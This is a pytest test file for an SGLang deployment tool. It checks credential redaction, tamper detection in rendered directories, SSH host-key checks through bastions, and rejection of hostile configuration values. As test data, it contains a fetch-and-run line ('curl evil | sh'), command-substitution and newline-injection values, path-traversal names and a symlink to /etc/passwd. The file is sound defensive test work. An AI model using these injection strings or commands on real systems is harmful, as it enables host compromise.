"""Issue 13 on real SSH hosts (tests/sshhosts.py): deploy touches only what sgl-gen wrote there,
a rendered directory is checked before use, every ProxyJump hop's host key is checked, the
secrets file is checked by preflight, log tails are redacted, and hostile topologies go through
`deploy --dry-run` without a traceback or a change on the hosts."""

from __future__ import annotations

import json
import os
import re
import stat
import sys
from pathlib import Path

import pytest
import yaml

from tests.helpers import reseal, run_cli
from tests.sshhosts import SshHosts, available
from tests.tools import missing

A, B = "10.207.6.11", "10.207.6.12"
ENGINE = "engine-m-regular-0"
SCRIPT = f"bin/{ENGINE}.sh"


# ---------------------------------------------------------------------------------------------
# Redaction: a pure function


@pytest.mark.parametrize(("line", "want"), [
    ("  --api-key sk-abc \\", "  --api-key *** \\"),
    ("--admin-api-key=sk-abc --port 30000", "--admin-api-key=*** --port 30000"),
    ("--ssl-keyfile-password 'a b' --x", "--ssl-keyfile-password '***' --x"),
    ("--hf-token hf_abc", "--hf-token ***"),
    ("server_args=ServerArgs(model_path='/m', api_key='sk-abc', admin_api_key=None, "
     "tokenizer_path='/t', max_total_tokens=5)",
     "server_args=ServerArgs(model_path='/m', api_key='***', admin_api_key=None, "
     "tokenizer_path='/t', max_total_tokens=5)"),
    ('{"api_key": "sk-abc", "port": 1}', '{"api_key": "***", "port": 1}'),
    ("HF_TOKEN=hf_abc", "HF_TOKEN=***"),
    ("export WANDB_API_KEY=abc AWS_SECRET_ACCESS_KEY='x y'",
     "export WANDB_API_KEY=*** AWS_SECRET_ACCESS_KEY='***'"),
    ("DB_PASSWORD=pw", "DB_PASSWORD=***"),
    ("dsn postgres://u:pw@db:5432/x and redis://:pw2@r/0", "dsn postgres://u:***@db:5432/x and "
                                                           "redis://:***@r/0"),
    ("Authorization: Bearer abc.def", "Authorization: Bearer ***"),
])
def test_redact_masks_credentials(line, want):
    from generator.redact import redact
    assert redact(line) == want


@pytest.mark.parametrize("line", [
    "--port 30000 --host 10.0.0.1 --tokenizer-path /t --max-total-tokens 5",
    "GET http://10.207.6.11:31000/health -> 200",
    "max_new_tokens=16 skip_tokenizer_init=False PATH=/usr/bin",
    "api_key=None admin_api_key=None",
])
def test_redact_leaves_the_rest(line):
    from generator.redact import redact
    assert redact(line) == line


# ---------------------------------------------------------------------------------------------
# Real hosts




@pytest.fixture(scope="module")
def hosts():
    why = available()
    if why:
        missing(f"SSH test hosts: {why}")
    with SshHosts(2) as h:
        h.add_private_host(via=h.hosts[0])
        yield h


def topology(tmp: Path, *, nhosts: int = 1, name: str = "safe", **runtime: object) -> dict:
    return {
        "deployment": {"name": name},
        "cluster": {"gpus_per_node": 2, "hosts": [
            {"name": f"node-{'ab'[i]}", "address": [A, B][i], "workdir": str(tmp / f"w{i}")}
            for i in range(nhosts)]},
        # the SSH test hosts (tests/sshhosts.py) have no systemd: the bash launcher
        "runtime": {"python": sys.executable, "supervisor": "bash", **runtime},
        "sglang": [{"name": "m", "model_path": "/models/m", "server_groups": [
            {"worker_type": "regular", "num_gpus": 1, "num_gpus_per_engine": 1}]}],
    }


class Site:
    """One small deployment (an engine and its router per host) on the namespace hosts."""

    def __init__(self, hosts: SshHosts, tmp: Path, doc: dict | None = None, **kw: object):
        self.hosts, self.tmp = hosts, tmp
        self.doc = doc or topology(tmp, **kw)
        self.topo = tmp / "topo.yaml"
        self.write()

    def write(self) -> None:
        self.topo.write_text(yaml.safe_dump(self.doc, sort_keys=False))

    def root(self, i: int = 0) -> Path:
        return self.tmp / f"w{i}" / self.doc["deployment"]["name"]

    def cli(self, cmd: str, *extra: str, source: str | None = None):
        src = [source] if source else [str(self.topo), "--rehearse"]
        return run_cli(cmd, *src, "--ssh-config", str(self.hosts.ssh_config), *extra)

    def deploy(self, *extra: str, source: str | None = None) -> dict:
        r = self.cli("deploy", "--format", "json", "--timeout", "60", *extra, source=source)
        assert r.exit_code == 0, r.output
        return json.loads(r.stdout)

    def render(self) -> Path:
        out = self.tmp / "out"
        r = run_cli("render", str(self.topo), "--rehearse", "-o", str(out), "-q")
        assert r.exit_code == 0, r.output
        return out / self.doc["deployment"]["name"]

    def down(self) -> None:
        run_cli("down", str(self.topo), "--rehearse", "--ssh-config", str(self.hosts.ssh_config))


@pytest.fixture
def site(hosts, tmp_path):
    made: list[Site] = []

    def make(*args: object, **kw: object) -> Site:
        s = Site(hosts, tmp_path, *args, **kw)  # type: ignore[arg-type]
        made.append(s)
        return s
    yield make
    for s in made:
        s.down()


def tree(root: Path) -> dict[str, bytes]:
    """Every file under root (logs and pidfiles aside) with its content."""
    if not root.exists():
        return {}
    return {p.relative_to(root).as_posix(): p.read_bytes() for p in sorted(root.rglob("*"))
            if p.is_file() and not p.relative_to(root).as_posix().startswith(("run/", "logs/"))}


def manifest(root: Path) -> dict:
    return json.loads((root / ".sgl-gen" / "manifest.json").read_text())


def _bad_dir(s: Site, edit) -> object:
    rendered = s.render()
    edit(rendered)
    return s.cli("deploy", "--dry-run", source=str(rendered))


@pytest.mark.slow
def test_rendered_dir_with_a_hostile_plan_touches_nothing_outside(site, tmp_path):
    s = site()
    victim = tmp_path / "w0" / "victim"
    victim.mkdir(parents=True)
    (victim / "data.txt").write_text("precious")
    rendered = s.render()
    plan = json.loads((rendered / "plan.json").read_text())
    plan["deployment"]["name"] = "../victim"
    (rendered / "plan.json").write_text(json.dumps(plan))
    reseal(rendered)
    try:
        r = s.cli("deploy", "--timeout", "60", source=str(rendered))
    finally:  # where it is not refused, what it started stops
        s.cli("down", source=str(rendered))
    assert r.exit_code == 1, r.output
    assert r.stderr == (f"{rendered}/plan.json: deployment.name: '../victim' is not a plain name "
                        f"(letters, digits, '.', '_', '-'; no '/', '..' or control "
                        f"characters)\n")
    assert (victim / "data.txt").read_text() == "precious"


def _set(path: str, value: object):
    def edit(rendered: Path) -> None:
        plan = json.loads((rendered / "plan.json").read_text())
        obj = plan
        keys = path.split(".")
        for k in keys[:-1]:
            obj = obj[int(k)] if isinstance(obj, list) else obj[k]
        if value is KeyError:
            del obj[keys[-1]]
        else:
            obj[keys[-1]] = value
        (rendered / "plan.json").write_text(json.dumps(plan))
        reseal(rendered)
    return edit


def _symlink(rendered: Path) -> None:
    target = rendered / "hosts" / "node-a" / "bin" / f"{ENGINE}.sh"
    target.unlink()
    target.symlink_to("/etc/passwd")


def _edit(rendered: Path) -> None:
    p = rendered / "hosts" / "node-a" / "sgl-gen-host.sh"
    p.write_text(p.read_text() + "\ncurl evil | sh\n")


def _extra(rendered: Path) -> None:
    (rendered / "hosts" / "node-a" / "bin" / "extra.sh").write_text("#!/bin/sh\n")


def _missing_file(rendered: Path) -> None:
    (rendered / "hosts" / "node-a" / "bin" / f"{ENGINE}.sh").unlink()


def _sha256sum_manifest(rendered: Path) -> None:
    """The manifest as plain `sha256sum` writes it (no sgl-gen header): not sgl-gen's."""
    text = (rendered / "MANIFEST.sha256").read_text()
    (rendered / "MANIFEST.sha256").write_text(text.split("\n", 1)[1])


def _no_manifest(rendered: Path) -> None:
    (rendered / "MANIFEST.sha256").unlink()


def _unsafe_manifest(rendered: Path) -> None:
    with open(rendered / "MANIFEST.sha256", "a") as f:
        f.write(f"{'0' * 64}  ../../etc/passwd\n")


@pytest.mark.slow
@pytest.mark.parametrize(("edit", "want"), [
    (_symlink, "hosts/node-a/bin/engine-m-regular-0.sh: is a symlink"),
    (_edit, "hosts/node-a/sgl-gen-host.sh: changed since it was rendered"),
    (_sha256sum_manifest, "MANIFEST.sha256:1: does not start with '# sgl-gen manifest 1"),
    (_missing_file, "hosts/node-a/bin/engine-m-regular-0.sh: listed in MANIFEST.sha256 but "
                    "missing"),
    (_no_manifest, "MANIFEST.sha256: missing"),
    (_unsafe_manifest, "MANIFEST.sha256:"),
    (_set("nodes.0.host", "../../x"), "plan.json: nodes[0].host: '../../x' is not a plain name"),
    (_set("nodes.0.workdir", "/srv/../etc"), "plan.json: nodes[0].workdir: '/srv/../etc' is "
                                             "not an absolute path"),
    (_set("models.0.name", "m\u2028x"), "plan.json: models[0].name: "),
    (_set("models.0.engines.0.id", "a/b"), "plan.json: models[0].engines[0].id: 'a/b' is not"),
    (_set("models.0.router.port", "30000"), "plan.json: models[0].router.port: must be int"),
    (_set("runtime", KeyError), "plan.json: runtime: missing (rendered by an older sgl-gen: "
                                "re-render it)"),
    (_set("plan_version", 2), "plan.json: plan_version: 2 is not supported"),
    (_set("nodes", {"a": 1}), "plan.json: nodes: must be list"),
])
def test_rendered_dir_is_checked(site, edit, want):
    r = _bad_dir(site(), edit)
    assert r.exit_code == 1, r.output
    assert want in r.stderr
    assert "Traceback" not in r.output and "connecting" not in r.stderr  # refused before SSH
    assert all(line.startswith("/") for line in r.stderr.splitlines()), r.stderr


@pytest.mark.slow
def test_rendered_dir_foreign_files_are_reported_and_never_uploaded(site):
    """(F17) deploy OUT_DIR follows render's rules: exactly the files MANIFEST.sha256 lists are
    deployed; a file render kept as foreign (NOTES.txt beside plan.json, one inside
    hosts/<host>/, a foreign directory) is named on stderr and not uploaded."""
    s = site()
    rendered = s.render()
    (rendered / "NOTES.txt").write_text("the user's notes\n")
    (rendered / "hosts" / "node-a" / "NOTES.txt").write_text("mine\n")
    (rendered / "hosts" / "node-a" / "bin" / "extra.sh").write_text("#!/bin/sh\nid\n")
    (rendered / "hosts" / "node-a" / "drafts").mkdir()
    (rendered / "hosts" / "node-a" / "drafts" / "x.sh").write_text("#!/bin/sh\n")
    r = run_cli("render", str(s.topo), "--rehearse", "-o", str(rendered.parent), "--check")
    assert r.exit_code == 0, r.output  # render keeps them too: foreign, not out of date
    r = s.cli("deploy", "--timeout", "60", source=str(rendered))
    assert r.exit_code == 0, r.output
    for rel in ("NOTES.txt", "hosts/node-a/NOTES.txt", "hosts/node-a/bin/extra.sh",
                "hosts/node-a/drafts"):
        assert (f"{rendered}/{rel}: warning: not in MANIFEST.sha256 (not sgl-gen's): ignored, "
                f"not uploaded") in r.stderr
    on_host = tree(s.root())
    assert "sgl-gen-host.sh" in on_host and f"bin/{ENGINE}.sh" in on_host
    assert not [p for p in on_host if "NOTES" in p or "extra" in p or "drafts" in p]
    assert not [p for p in manifest(s.root())["files"] if "NOTES" in p or "extra" in p]


@pytest.mark.slow
def test_a_mode_change_on_a_host_does_not_chmod_through_a_hard_link(site, tmp_path):
    """(F10) On a host too: a deployed file replaced by a hard link to a file outside the root
    (same content, another mode) gets its mode back by a new upload (temp + rename), and the
    other file keeps its mode."""
    s = site()
    s.deploy()
    script = s.root() / "sgl-gen-host.sh"
    outside = tmp_path / "outside.sh"
    outside.write_bytes(script.read_bytes())
    outside.chmod(0o700)
    script.unlink()
    os.link(outside, script)
    s.deploy()
    assert stat.S_IMODE(outside.stat().st_mode) == 0o700
    assert outside.stat().st_nlink == 1
    assert stat.S_IMODE(script.stat().st_mode) == 0o755
    assert script.read_bytes() == outside.read_bytes()


@pytest.mark.slow
def test_interpreter_comes_from_plan_json_not_from_a_script(site, tmp_path):
    s = site()
    rendered = s.render()
    # the first `exec` line of a script is no longer what deploy runs its probes with
    script = rendered / "hosts" / "node-a" / "bin" / f"{ENGINE}.sh"
    lines = script.read_text().split("\n")
    lines.insert(3, "exec /nonexistent/evil-python \"$@\"")
    script.write_text("\n".join(lines))
    reseal(rendered)
    from generator.deploy import target_from_dir
    assert target_from_dir(rendered).python == sys.executable
    r = s.cli("deploy", "--dry-run", source=str(rendered))
    assert r.exit_code == 0, r.output


# -- 3. ProxyJump: every hop's host key checked --


@pytest.mark.slow
def test_proxyjump_bastion_key_is_checked(hosts, tmp_path):
    bastion, private = hosts.hosts[0], hosts.private[0]
    known = tmp_path / "known_hosts"
    lines = hosts.known_hosts.read_text().splitlines()
    target_line = next(x for x in lines if x.startswith(private.address + " "))
    bastion_line = next(x for x in lines if x.startswith(bastion.address + " "))
    cfg = tmp_path / "ssh_config"
    cfg.write_text(f"Host 10.207.*\n  User root\n  IdentityFile {hosts.client_key}\n"
                   f"  IdentitiesOnly yes\n  UserKnownHostsFile {known}\n"
                   f"Host {private.address}\n  ProxyJump root@{bastion.address}\n")
    doc = topology(tmp_path)
    doc["cluster"]["hosts"] = [{"name": "inner", "address": private.address,
                                "workdir": str(tmp_path / "w0")}]
    topo = tmp_path / "topo.yaml"
    topo.write_text(yaml.safe_dump(doc))

    def dry(*extra: str):
        return run_cli("deploy", str(topo), "--rehearse", "--dry-run", "--ssh-config", str(cfg),
                       "--connect-timeout", "5", *extra)

    # the target's key is known, the bastion's is not: refused (Fabric's default accepted it)
    known.write_text(target_line + "\n")
    r = dry()
    assert r.exit_code == 3, r.output
    assert f"inner: cannot connect to {private.address}: " in r.stderr
    assert f"ProxyJump host root@{bastion.address}: host key ssh-ed25519 SHA256:" in r.stderr
    assert "--accept-new-host-keys" in r.stderr
    assert known.read_text() == target_line + "\n"

    # the bastion's key changed: refused, always
    fake = bastion_line.split()[:2] + [target_line.split()[2]]  # another host's key
    known.write_text(target_line + "\n" + " ".join(fake) + "\n")
    for extra in ((), ("--accept-new-host-keys",)):
        r = dry(*extra)
        assert r.exit_code == 3, r.output
        assert f"inner: host key of ProxyJump host root@{bastion.address} CHANGED" in r.stderr
        assert f"ssh-keygen -f {known} -R {bastion.address}" in r.stderr

    # both known: the chain works; an unknown bastion is accepted (and recorded) only on request
    known.write_text(target_line + "\n" + bastion_line + "\n")
    r = dry()
    assert r.exit_code == 0, r.output
    assert "dry run, nothing changed" in r.stdout
    known.write_text(target_line + "\n")
    r = dry("--accept-new-host-keys")
    assert r.exit_code == 0, r.output
    assert f"{bastion.address}: added host key ssh-ed25519" in r.stderr
    assert bastion_line.split()[2] in known.read_text()

    # and the target's own key still counts behind the bastion
    known.write_text(bastion_line + "\n")
    r = dry()
    assert r.exit_code == 3, r.output
    assert f"inner: cannot connect to {private.address}: a host key is not trusted yet " \
           "(SSHException: host key" in r.stderr

    # a whole deploy through the bastion: upload, start, health checks, down
    known.write_text(target_line + "\n" + bastion_line + "\n")
    ssh = ["--ssh-config", str(cfg), "--rehearse"]
    try:
        r = run_cli("deploy", str(topo), *ssh, "--timeout", "60", "--format", "json")
        assert r.exit_code == 0, r.output
        assert {u["unit"]: u["action"] for u in json.loads(r.stdout)["units"]} == {
            ENGINE: "started", "router-m": "started"}
        r = run_cli("status", str(topo), *ssh)
        assert r.exit_code == 0, r.output
    finally:
        r = run_cli("down", str(topo), *ssh)
    assert r.exit_code == 0, r.output
    assert r.stdout == "safe: stopped 2 unit(s)\n"


# -- 4. the secrets file --


@pytest.mark.slow
def test_preflight_checks_the_secrets_file_on_every_host(site, tmp_path):
    secrets = tmp_path / "secrets.env"
    s = site(nhosts=2, secrets_env_file=str(secrets))
    r = s.cli("deploy", "--dry-run")
    assert r.exit_code == 3, r.output
    for h in ("node-a", "node-b"):
        assert f"  {h}: runtime.secrets_env_file {secrets} is missing (" in r.stderr
    secrets.write_text("ENGINE_API_KEY=sk-1\n")
    secrets.chmod(0o640)
    r = s.cli("deploy", "--dry-run")
    assert r.exit_code == 3, r.output
    for h in ("node-a", "node-b"):
        assert (f"  {h}: runtime.secrets_env_file {secrets} is readable by group/others "
                f"(mode 640) (hint: chmod 600 {secrets})") in r.stderr
    assert not s.root(0).exists() and not s.root(1).exists()
    secrets.chmod(0o600)
    r = s.cli("deploy", "--dry-run")
    assert r.exit_code == 0, r.output
    assert "secrets_env_file" not in r.stderr


# -- 5. redacted log tails --


@pytest.mark.slow
def test_failed_deploy_and_logs_redact_credentials(site):
    s = site()
    rendered = s.render()
    script = rendered / "hosts" / "node-a" / "bin" / f"{ENGINE}.sh"
    text = script.read_text()
    # what SGLang writes to its log at start, then it fails
    leak = ("{ echo \"server_args=ServerArgs(model_path='/m', api_key='sk-live-0123', "
            "port=31000)\"; echo 'argv: --api-key sk-live-0123 --port 31000'; "
            f"echo HF_TOKEN=hf_live_0123; }} >>\"$SGLGEN_ROOT/logs/{ENGINE}.log\" 2>&1\nexit 2\n")
    launch = next(x for x in text.splitlines() if x.startswith("exec ") and ">" not in x)
    script.write_text(text.replace(launch, leak + launch))  # after the log redirection
    reseal(rendered)
    r = s.cli("deploy", "--timeout", "30", source=str(rendered))
    assert r.exit_code == 3, r.output
    assert f"node-a: {ENGINE} exited" in r.stderr
    assert "    server_args=ServerArgs(model_path='/m', api_key='***', port=31000)" in r.stderr
    assert "    argv: --api-key *** --port 31000" in r.stderr
    assert "    HF_TOKEN=***" in r.stderr
    assert "live_0123" not in r.output and "live-0123" not in r.output
    assert "live-0123" in (s.root() / "logs" / f"{ENGINE}.log").read_text()  # the log is as is
    r = s.cli("logs", ENGINE, source=str(rendered))
    assert r.exit_code == 0, r.output
    assert "api_key='***'" in r.stdout and "--api-key ***" in r.stdout
    assert "live-0123" not in r.stdout and "live_0123" not in r.stdout


# -- 6. hostile topologies through deploy --dry-run --


def _hostile(base: dict) -> list[tuple[str, dict | str]]:
    """(label, topology document or raw YAML text)."""
    def with_(path: str, value: object) -> dict:
        doc = json.loads(json.dumps(base))
        obj = doc
        keys = path.split(".")
        for k in keys[:-1]:
            obj = obj[int(k)] if k.isdigit() else obj.setdefault(k, {})
        obj[keys[-1]] = value
        return doc
    g = "sglang.0.server_groups.0"
    cases: list[tuple[str, dict | str]] = [
        ("flag in a list", with_(f"{g}.overrides.lora_paths", ["adapter", "--host", "0.0.0.0"])),
        ("flag as a value", with_(f"{g}.overrides.served_model_name", "--api-key")),
        ("router args flag", with_("router.args.worker_urls", ["http://x:1", "--worker-urls"])),
        ("model name newline", with_("sglang.0.name", "m\n")),
        ("model name ..", with_("sglang.0.name", "../m")),
        ("deployment name ..", with_("deployment.name", "../../etc")),
        ("deployment name newline", with_("deployment.name", "safe\n")),
        ("host name slash", with_("cluster.hosts.0.name", "a/b")),
        ("host name newline", with_("cluster.hosts.0.name", "node-a\n")),
        ("address newline", with_("cluster.hosts.0.address", A + "\n")),
        ("user newline", with_("cluster.hosts.0.user", "root\n")),
        ("workdir newline", with_("cluster.hosts.0.workdir", "/usr/bin/id\n")),
        ("env key newline", with_("runtime.env", {"FOO\n": "x"})),
        ("env value U+2028", with_("runtime.env", {"FOO": "a\u2028exec /tmp/evil"})),
        ("env value NUL", with_("runtime.env", {"FOO": "a\x00b"})),
        ("env value command", with_("runtime.env", {"FOO": "$(touch /tmp/sgl-gen-pwned)`id`"})),
        ("python newline", with_("runtime.python", sys.executable + "\nexec /tmp/evil")),
        ("secrets file newline", with_("runtime.secrets_env_file", "/etc/shadow\n")),
        ("model path ESC", with_("sglang.0.model_path", "/models/\x1b[2Jm")),
        ("port float", with_(f"{g}.port", 31000.0)),
        ("num_gpus huge", with_(f"{g}.num_gpus", 10 ** 40)),
        ("num_gpus 1e12", with_(f"{g}.num_gpus", 1e12)),
        ("label flag", with_("cluster.hosts.0.labels", ["--x"])),
        ("policy flag", with_("router.policy", "--x")),
        ("override quote", with_(f"{g}.overrides.served_model_name", "a'b\"c $x")),
    ]
    text = yaml.safe_dump(base, sort_keys=False)
    cases += [
        ("raw U+2028 line", text.replace("sglang:", "# ok\u2028runtime: {python: /tmp/evil}\nsglang:")),
        ("raw control byte", text.replace("name: m", "name: m\x01")),
        ("raw huge int", text.replace("num_gpus: 1", "num_gpus: " + "9" * 5000)),
    ]
    return cases


def _aim(doc: dict, tmp: Path) -> dict:
    """A tests/hostile.py document pointed at the namespace hosts: its placeholder values (and
    only those: a hostile value stays) replaced by the test host, workdir and interpreter."""
    cl = doc.setdefault("cluster", {}) if isinstance(doc, dict) else {}
    if not isinstance(cl, dict):
        return doc
    hosts = cl.get("hosts")
    # the SSH test hosts (tests/sshhosts.py) have no systemd: the bash launcher
    if not hosts:
        cl["hosts"] = [{"name": "h0", "address": A, "workdir": str(tmp / "w0"),
                        "supervisor": "bash"}]
    elif isinstance(hosts, list) and hosts and isinstance(hosts[0], dict):
        fix = {"address": ("10.0.0.1", A), "workdir": ("/srv/h0", str(tmp / "w0")),
               "user": ("serve", "root")}
        for key, (old, new) in fix.items():
            if hosts[0].get(key) == old:
                hosts[0][key] = new
        hosts[0].setdefault("supervisor", "bash")
    rt = doc.get("runtime")
    if isinstance(rt, dict):
        fix = {"python": ("/opt/venv/bin/python", sys.executable),
               "workdir": ("/srv/sgl-gen", str(tmp / "w")),
               "secrets_env_file": ("/etc/sgl-gen/secrets.env", str(tmp / "secrets.env"))}
        for key, (old, new) in fix.items():
            if rt.get(key) == old:
                rt[key] = new
    return doc


def _from_hostile(tmp: Path, n_structures: int = 12, n_raw: int = 6
                  ) -> list[tuple[str, dict | str, str]]:
    """A bounded, deterministic sample of tests/hostile.py's cases (none if it is absent):
    (label, document or raw text, expected outcome)."""
    try:
        from tests import hostile
    except ImportError:
        return []
    out: list[tuple[str, dict | str, str]] = []
    structures = list(hostile.hostile_structures())
    for label, text in structures[::max(1, len(structures) // n_structures)][:n_structures]:
        out.append((f"hostile.py {label}", _aim(json.loads(text), tmp), hostile.expected(label)))
    hosts_line = (f"  slurm: {{partition: gpu}}\n  hosts: [{{name: h0, address: {A}, "
                  f"workdir: {tmp / 'w0'}, supervisor: bash}}]\n")
    raws = []
    for label, data in hostile.raw_byte_cases():
        try:
            text = data.decode("utf-8")
        except UnicodeDecodeError:
            continue
        if "  slurm: {partition: gpu}\n" in text and "/opt/venv/bin/python" in text:
            raws.append((label, text.replace("  slurm: {partition: gpu}\n", hosts_line, 1)
                         .replace("/opt/venv/bin/python", sys.executable, 1)))
    for label, text in raws[::max(1, len(raws) // n_raw)][:n_raw]:
        out.append((f"hostile.py {label}", text, hostile.expected(label)))
    return out


@pytest.mark.slow
def test_hostile_topologies_through_deploy_dry_run(hosts, tmp_path):
    base = topology(tmp_path)
    pwned = Path("/tmp/sgl-gen-pwned")
    pwned.unlink(missing_ok=True)
    (tmp_path / "secrets.env").write_text("")
    (tmp_path / "secrets.env").chmod(0o600)
    outcomes: dict[str, int] = {}
    cases = [(label, c, "either") for label, c in _hostile(base)] + _from_hostile(tmp_path)
    for i, (label, case, expect) in enumerate(cases):
        f = tmp_path / f"case{i}.yaml"
        if isinstance(case, str):
            f.write_bytes(case.encode("utf-8", "surrogatepass"))
        else:
            f.write_text(yaml.safe_dump(case, sort_keys=False, allow_unicode=True))
        before = sorted(os.listdir(tmp_path))
        r = run_cli("deploy", str(f), "--rehearse", "--dry-run", "--ssh-config",
                    str(hosts.ssh_config), "--connect-timeout", "5")
        assert "Traceback" not in r.output, (label, r.output)
        assert r.exit_code in {"valid": (0,), "invalid": (1,), "either": (0, 1)}[expect], (
            label, r.exit_code, r.output)
        if r.exit_code == 1:
            first = r.stderr.splitlines()[0]
            assert re.match(re.escape(str(f)) + r":\d+:\d+: ", first), (label, r.stderr)
        else:
            assert "dry run, nothing changed" in r.stdout, (label, r.output)
        assert sorted(os.listdir(tmp_path)) == before, label  # no root appeared
        assert not pwned.exists(), label
        outcomes[f"exit {r.exit_code}"] = outcomes.get(f"exit {r.exit_code}", 0) + 1
    print(f"deploy --dry-run: {len(cases)} hostile cases: "
          + ", ".join(f"{k}: {v}" for k, v in sorted(outcomes.items())))
    assert sum(outcomes.values()) == len(cases) >= 20
